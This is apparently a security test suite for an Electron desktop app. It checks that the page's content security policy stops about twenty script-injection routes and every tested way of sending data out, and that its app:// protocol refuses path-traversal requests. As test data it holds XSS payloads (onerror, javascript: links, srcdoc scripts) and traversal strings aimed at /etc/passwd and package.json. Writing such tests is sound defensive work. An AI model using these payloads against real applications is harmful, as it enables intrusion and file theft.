import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { type Desk, launchDesk } from '../support/launch-desk.ts';
import { type ListeningPost, openListeningPost } from './listening-post.ts';
import './window-api.ts';

declare global {
  /** Set by any script that an attack got to run. */
  var attacked: string | undefined;
}

let desk: Desk;
let stranger: ListeningPost;
beforeAll(async () => {
  [desk, stranger] = await Promise.all([launchDesk(), openListeningPost()]);
  await desk.page.getByRole('heading', { level: 1 }).waitFor();
});
afterAll(async () => {
  await desk?.close({ forget: true });
  await stranger?.close();
});
afterEach(() => stranger.forget());

describe('text that reaches the page', () => {
  /** Each plants `mark` where a careless page would run it. They run outside the inspector, which would lift the policy. */
  const plant = () =>
    desk.page.evaluate(
      () =>
        new Promise<{ ran: string[]; refusals: number; attempts: number }>((resolve) => {
          const ran: string[] = [];
          Object.defineProperty(globalThis, 'mark', {
            configurable: true,
            value: (how: string) => ran.push(how),
          });
          let refusals = 0;
          document.addEventListener('securitypolicyviolation', () => {
            refusals += 1;
          });
          const place = document.createElement('div');
          document.body.append(place);
          const element = (tag: string, set: (one: HTMLElement) => void) => () => {
            const one = document.createElement(tag);
            set(one);
            place.append(one);
          };
          const markup = (how: string) =>
            `<img src="data:," onerror="mark('${how}')"><svg onload="mark('${how}')">`;
          const attempts: ReadonlyArray<() => unknown> = [
            () => {
              place.innerHTML = markup('innerHTML');
            },
            () => place.insertAdjacentHTML('beforeend', markup('insertAdjacentHTML')),
            () => place.append(document.createRange().createContextualFragment(markup('fragment'))),
            () => document.write(markup('document.write')),
            () =>
              place.append(...new DOMParser().parseFromString(markup('parser'), 'text/html').body.children),
            element('script', (one) => {
              one.textContent = 'mark("script text")';
            }),
            element('script', (one) => one.append('mark("script child")')),
            element('script', (one) => one.setAttribute('src', 'data:text/javascript,mark("data script")')),
            element('script', (one) => {
              (one as HTMLScriptElement).src = URL.createObjectURL(new Blob(['mark("blob script")']));
            }),
            element('img', (one) => {
              one.setAttribute('onerror', 'mark("handler attribute")');
              one.setAttribute('src', 'data:,');
            }),
            element('iframe', (one) => one.setAttribute('srcdoc', '<script>parent.mark("srcdoc")</script>')),
            element('iframe', (one) => one.setAttribute('src', 'javascript:parent.mark("frame address")')),
            element('a', (one) => {
              one.setAttribute('href', 'javascript:mark("link")');
              place.append(one);
              one.click();
            }),
            element('object', (one) =>
              one.setAttribute('data', 'data:text/html,<script>parent.mark("object")</script>'),
            ),
            // biome-ignore lint/security/noGlobalEval: this is the attack.
            () => eval('mark("eval")'),
            () => new Function('mark("Function")')(),
            () => (async () => {}).constructor('mark("AsyncFunction")')(),
            () => setTimeout('mark("timer text")' as unknown as () => void),
            () =>
              import(/* @vite-ignore */ `${'data'}:text/javascript,mark("data module")`).catch(
                () => undefined,
              ),
            () =>
              new Worker('data:text/javascript,postMessage(1)').addEventListener('message', () =>
                ran.push('worker'),
              ),
            () =>
              new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).addEventListener('message', () =>
                ran.push('blob worker'),
              ),
          ];
          setTimeout(() => {
            for (const attempt of attempts) {
              try {
                attempt();
              } catch {
                refusals += 1;
              }
            }
            // The last timer text, load and message events come before two more turns and an idle moment.
            requestIdleCallback(() =>
              setTimeout(() =>
                requestIdleCallback(() => {
                  place.remove();
                  resolve({ ran, refusals, attempts: attempts.length });
                }),
              ),
            );
          });
        }),
    );

  test('never becomes a script, by any of twenty ways', async () => {
    const { ran, refusals, attempts } = await plant();
    expect(ran).toEqual([]);
    expect(refusals).toBeGreaterThanOrEqual(attempts);
  });

  test('is refused as HTML even by a page that asks for a policy of its own', async () => {
    const made = await desk.page.evaluate(() => {
      const factory = (
        window as unknown as { trustedTypes: { createPolicy: (n: string, r: object) => unknown } }
      ).trustedTypes;
      const rules = {
        createHTML: (t: string) => t,
        createScript: (t: string) => t,
        createScriptURL: (t: string) => t,
      };
      return ['evil', 'default', 'dompurify'].filter((name) => {
        try {
          factory.createPolicy(name, rules);
          return true;
        } catch {
          return false;
        }
      });
    });
    expect(made).toEqual([]);
  });
});

describe('what the page knows', () => {
  test('goes to no other computer, by any of its ways out', async () => {
    const settled = await desk.page.evaluate(
      async ({ http, udp, tcp }) => {
        const ws = http.replace('http', 'ws');
        const loaded = (tag: string, set: Record<string, string>): Promise<string> =>
          new Promise((resolve) => {
            const one = document.createElement(tag);
            one.addEventListener('load', () => resolve('load'));
            one.addEventListener('error', () => resolve('error'));
            document.addEventListener('securitypolicyviolation', () => resolve('policy'), { once: true });
            try {
              for (const [name, value] of Object.entries(set)) one.setAttribute(name, value);
              document.head.append(one);
            } catch {
              resolve('threw');
            }
          });
        const styled = (text: string): Promise<string> =>
          new Promise((resolve) => {
            document.addEventListener('securitypolicyviolation', () => resolve('policy'), { once: true });
            const style = document.createElement('style');
            style.append(document.createTextNode(text));
            document.head.append(style);
            // Reading a measure makes the browser want what the style names.
            void document.body.offsetWidth;
          });
        const said = (one: EventTarget): Promise<string> =>
          new Promise((resolve) => {
            one.addEventListener('open', () => resolve('open'));
            one.addEventListener('error', () => resolve('error'));
          });
        const tried = async (work: () => unknown): Promise<string> => {
          try {
            return String(await work());
          } catch {
            return 'threw';
          }
        };
        const gathering = async (): Promise<string> => {
          const relay = { urls: `turn:${tcp}?transport=tcp`, username: 'a', credential: 'secret' };
          const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${udp}` }, relay] });
          peer.createDataChannel('out');
          await peer.setLocalDescription(await peer.createOffer());
          await new Promise<void>((resolve) => {
            const look = (): void => {
              if (peer.iceGatheringState === 'complete') resolve();
            };
            peer.addEventListener('icegatheringstatechange', look);
            look();
          });
          peer.close();
          return 'gathered';
        };
        return {
          fetch: await tried(() => fetch(`${http}/fetch`)),
          blind: await tried(() => fetch(`${http}/no-cors`, { mode: 'no-cors' })),
          request: await tried(() => {
            const request = new XMLHttpRequest();
            request.open('GET', `${http}/xhr`);
            request.send();
            return said(request);
          }),
          beacon: await tried(() => navigator.sendBeacon(`${http}/beacon`, 'secret')),
          socket: await tried(() => said(new WebSocket(`${ws}/socket`))),
          stream: await tried(() => said(new EventSource(`${http}/stream`))),
          script: await loaded('script', { src: `${http}/script.js` }),
          module: await tried(() => import(/* @vite-ignore */ `${http}/module.js`)),
          image: await loaded('img', { src: `${http}/image` }),
          media: await loaded('video', { src: `${http}/media` }),
          style: await loaded('link', { rel: 'stylesheet', href: `${http}/style` }),
          preload: await loaded('link', { rel: 'preload', as: 'script', href: `${http}/preload` }),
          prefetch: await loaded('link', { rel: 'prefetch', href: `${http}/prefetch` }),
          icon: await loaded('link', { rel: 'modulepreload', href: `${http}/modulepreload.js` }),
          frame: await loaded('iframe', { src: `${http}/frame` }),
          object: await loaded('object', { data: `${http}/object` }),
          import: await styled(`@import url("${http}/import")`),
          background: await styled(`body { background: url("${http}/background") }`),
          peer: await tried(gathering),
        };
      },
      { http: stranger.address, udp: stranger.udp, tcp: stranger.tcp },
    );
    expect(Object.keys(settled)).toHaveLength(19);
    expect(stranger.heard()).toEqual([]);
    expect(await desk.page.evaluate(() => globalThis.attacked)).toBeUndefined();
    // The control: this computer can be called.
    await fetch(`${stranger.address}/control`);
    expect(stranger.heard()).toEqual(['/control']);
  });

  test('cannot be added to from this PC’s own files or from other schemes', async () => {
    const answers = await desk.page.evaluate(() =>
      Promise.all(
        [
          'file:///etc/passwd',
          'http://127.0.0.1:1/',
          'app://other/index.html',
          'chrome://version',
          'data:,x',
        ].map((address) =>
          fetch(address).then(
            (answer) => `${address} answered ${answer.status}`,
            () => 'refused',
          ),
        ),
      ),
    );
    expect(new Set(answers)).toEqual(new Set(['refused']));
  });
});

describe('app://', () => {
  /** Asked by the main process, whom no page's policy stands in the way of: what the protocol itself answers. */
  const ask = (address: string, method = 'GET') =>
    desk.app.evaluate(
      async ({ net }, [url, verb]) => {
        const answer = await net.fetch(url as string, { method: verb as string });
        const text = await answer.text();
        return {
          status: answer.status,
          text: text.slice(0, 400),
          policy: answer.headers.get('content-security-policy'),
        };
      },
      [address, method] as const,
    );

  test('serves the page, which the refusals below are held against', async () => {
    const { status, text, policy } = await ask('app://desk/index.html');
    expect(status).toBe(200);
    expect(text).toContain('<title>ESR Access Desk</title>');
    expect(policy).toContain("default-src 'none'");
  });

  const OUTSIDE = [
    'app://desk/../../package.json',
    'app://desk/..%2f..%2fpackage.json',
    'app://desk/%2e%2e%2f%2e%2e%2fpackage.json',
    'app://desk/%2e%2e/%2e%2e/package.json',
    'app://desk/assets/..%2f..%2f..%2fpackage.json',
    'app://desk/..%2fmain%2findex.js',
    'app://desk/..%2frenderer%2f..%2fmain%2findex.js',
    'app://desk/..%5cmain%5cindex.js',
    'app://desk/..%5c..%5cpackage.json',
    'app://desk/%252e%252e%252fmain%252findex.js',
    'app://desk//etc/passwd',
    'app://desk/%2fetc%2fpasswd',
    'app://desk/index.html%00.js',
    'app://desk/%00',
    'app://desk/..%2fmain%2findex.js%00.html',
    'app://desk/%ff%fe',
    'app://desk/file:%2f%2f%2fetc%2fpasswd',
    'app://other/index.html',
    'app://desk.evil/index.html',
    'app://index.html/',
  ];
  test.each(OUTSIDE)('gives nothing for %s', async (address) => {
    const { status, text, policy } = await ask(address);
    expect({ status, text }).toEqual({ status: 404, text: 'Not found' });
    expect(policy).toContain("default-src 'none'");
  });

  test('gives the page no file outside its own folder either', async () => {
    const answers = await desk.page.evaluate(
      (addresses) =>
        Promise.all(
          addresses.map((address) =>
            fetch(address).then(
              (answer) => answer.status,
              () => 'refused',
            ),
          ),
        ),
      OUTSIDE,
    );
    expect(answers.filter((answer) => answer !== 404 && answer !== 'refused')).toEqual([]);
    expect(answers.filter((answer) => answer === 404).length).toBeGreaterThan(10);
  });

  test.each(['POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'HEAD'])('takes no %s', async (method) => {
    expect((await ask('app://desk/index.html', method)).status).toBe(405);
    const fromPage = await desk.page.evaluate(
      (verb) =>
        fetch('/index.html', { method: verb }).then(
          (answer) => answer.status,
          () => 'refused',
        ),
      method,
    );
    expect([405, 'refused']).toContain(fromPage);
  });
});
